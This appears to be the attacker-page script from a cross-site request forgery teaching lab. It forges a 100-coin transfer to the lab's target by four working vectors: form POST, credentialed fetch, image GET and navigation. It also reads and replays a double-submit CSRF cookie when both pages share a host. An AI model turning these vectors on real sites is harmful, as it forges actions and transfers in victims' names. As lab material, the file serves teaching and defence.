// The attacker's CSRF page (second origin). It forges "send 100 coins" to the lab target four
// ways and never learns the result: that is what the lab's own record is for.
import { T, fmt } from "./lab.js";

const A = JSON.parse(document.getElementById("attack").textContent);
const log = document.getElementById("attack-log");

function say(text) {
  const li = document.createElement("li");
  li.textContent = text;
  log.append(li);
}

function target(column, vector) {
  const q = new URLSearchParams({ run: A.run, v: vector, amount: "100", to: "attacker" });
  return `${A.lab}/attacks/csrf/target/${column}?${q}`;
}

// A double-submit cookie is readable by scripts by design. On the same host (cookies ignore
// ports) this page can read it too; from 127.0.0.1 it cannot.
function readDouble() {
  const found = document.cookie.split("; ").find((c) => c.startsWith("lab_csrf_double="));
  return found ? found.slice("lab_csrf_double=".length) : "";
}

const VECTORS = {
  form(column) {
    const form = document.querySelector(`form[data-column="${column}"]`);
    if (column === "jwt-cookie") {
      const double = readDouble();
      say(double ? fmt(T.read_double, { n: double.length }) : T.no_double);
      if (double) {
        const input = document.createElement("input");
        Object.assign(input, { type: "hidden", name: "csrf_double", value: double });
        form.append(input);
      }
    }
    say(fmt(T.leaving, { vector: "form POST", column }));
    form.submit();
  },
  fetch(column) {
    const body = new URLSearchParams({ amount: "100", to: "attacker" });
    if (column === "jwt-cookie" && readDouble()) body.set("csrf_double", readDouble());
    // Simple request (form body, no custom header): no preflight, sent as is.
    fetch(target(column, "fetch"), { method: "POST", credentials: "include", mode: "no-cors", body })
      .finally(() => say(fmt(T.sent, { vector: 'fetch(credentials: "include")', column })));
  },
  img(column) {
    const img = new Image();
    const done = () => say(fmt(T.sent, { vector: "<img> GET", column }));
    img.onload = done;
    img.onerror = done;
    img.src = target(column, "img");
  },
  nav(column) {
    say(fmt(T.leaving, { vector: "top-level GET", column }));
    location.href = target(column, "nav");
  },
};

for (const b of document.querySelectorAll("button[data-vector]")) {
  b.addEventListener("click", () => VECTORS[b.dataset.vector](b.dataset.column));
}
if (A.auto && A.run) VECTORS[A.vector](A.column);
